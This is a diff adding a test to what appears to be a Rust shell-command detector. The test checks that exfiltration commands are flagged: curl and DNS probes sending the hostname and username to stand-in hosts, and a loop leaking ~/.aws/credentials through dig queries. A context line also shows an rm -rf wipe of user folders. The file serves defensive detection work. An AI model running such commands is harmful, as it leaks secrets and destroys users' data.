@@ -264,6 +264,33 @@ fn miners_and_destruction() {
 }
 
 #[test]
+fn host_identity_sent_out_is_exfiltration() {
+    // Dependency-confusion probes: who installed it, sent in a URL or a DNS name.
+    has(
+        "curl -s \"https://cb.example.invalid/p?h=$(hostname)&u=$(whoami)\" >/dev/null 2>&1 || true",
+        K::SecretExfiltration,
+    );
+    has(
+        "ping -c 1 $( (hostname; whoami) | tr '\\n' . | xxd -p | cut -c1-50 ).probe.example.invalid",
+        K::SecretExfiltration,
+    );
+    let probe = "D=$(printf '%s' \"$(whoami)@$(hostname)\" | base64 | tr -d '=')\nnslookup \"$D.x.example.invalid\" || dig +short \"$D.x.example.invalid\"\n";
+    script_has(probe, Dialect::Bash, K::SecretExfiltration);
+    // Secrets chunked through a `while read` loop into DNS names.
+    let chunks = "cat ~/.aws/credentials | od -An -tx1 | tr -d ' \\n' | fold -w 60 | while read -r c; do\n  dig +short \"$c.e.example.invalid\"\ndone\n";
+    script_has(chunks, Dialect::Bash, K::SecretExfiltration);
+    // Platform names in download URLs, and host names printed, are not sent anywhere.
+    lacks(
+        "curl -fsSL https://dl.example.invalid/tool-$(uname -s)-$(uname -m).tar.gz | tar xz",
+        K::SecretExfiltration,
+    );
+    lacks(
+        "echo \"building on $(hostname)\" && ping -c 1 registry.example.invalid",
+        K::SecretExfiltration,
+    );
+}
+
+#[test]
 fn user_data_and_recovery_wipes_are_destruction() {
     has(
         "rm -rf \"$HOME/Documents\" ~/Desktop 2>/dev/null",
